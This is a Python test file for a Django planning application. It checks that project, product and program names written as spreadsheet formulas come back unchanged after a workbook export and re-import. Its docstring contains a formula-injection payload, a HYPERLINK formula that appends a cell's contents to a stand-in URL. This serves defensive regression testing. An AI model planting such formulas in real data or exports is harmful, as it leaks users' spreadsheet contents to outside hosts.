"""A project named `=HYPERLINK("http://x?d="&C5,"clic")` (and other names that are formulas)
survives the application's own workbook: exported as text, imported into an empty database with
the same name, character for character."""
from __future__ import annotations

import io

import pytest

from budget.models import ProjectAllocation
from isvimed_planning.models import OrgUnit
from projects.models import FundingSource, Product, Project
from strategy.models import DevelopmentPlan, Indicator, Program
from tests.exports.builders import AT, HYPERLINK, MINUS, PLUS
from tests.workbook.builders import BPIN, BPIN_PP, base_data, make_leads, run_import
from tests.workbook.test_round_trip import cells, empty_the_database

pytestmark = pytest.mark.django_db


def names() -> dict:
    return {
        "projects": dict(Project.objects.values_list("bank_code", "name")),
        "products": sorted(Product.objects.values_list("project__bank_code", "code", "name")),
        "programs": dict(Program.objects.values_list("code", "name")),
        "indicators": dict(Indicator.objects.values_list("code", "name")),
        "plan": list(DevelopmentPlan.objects.values_list("name", flat=True)),
        "org_units": dict(OrgUnit.objects.values_list("code", "name")),
        "sources": sorted(ProjectAllocation.objects.values_list("project__bank_code", "source__name")),
    }


def export() -> bytes:
    from isvimed_planning.workbook.exporter import export_workbook

    buffer = io.BytesIO()
    export_workbook(buffer)
    return buffer.getvalue()


def test_names_that_are_formulas_come_back_unchanged(tmp_path):
    make_leads()
    assert run_import(base_data(), tmp_path)[0] == 0
    # Typed in the application's forms, as the attacker did.
    Project.objects.filter(bank_code=BPIN).update(name=HYPERLINK)
    Project.objects.filter(bank_code=BPIN_PP).update(name=AT)
    Product.objects.filter(project__bank_code=BPIN).update(name=PLUS)
    Program.objects.filter(code="4.3.1").update(name=MINUS)
    Indicator.objects.filter(code="4.3.1.1").update(name=HYPERLINK)
    DevelopmentPlan.objects.update(name=PLUS)
    OrgUnit.objects.filter(code="SUB").update(name=AT)
    FundingSource.objects.filter(allocations__project__bank_code=BPIN).update(name=MINUS)
    before = names()
    assert before["projects"][BPIN] == HYPERLINK
    content = export()
    path = tmp_path / "exportado.xlsx"
    path.write_bytes(content)

    empty_the_database()
    code, out, err = run_import(path, tmp_path, "--crear-usuarios")  # the emptied database has no accounts
    assert code == 0, err

    assert names() == before
    assert cells(export()) == cells(content)
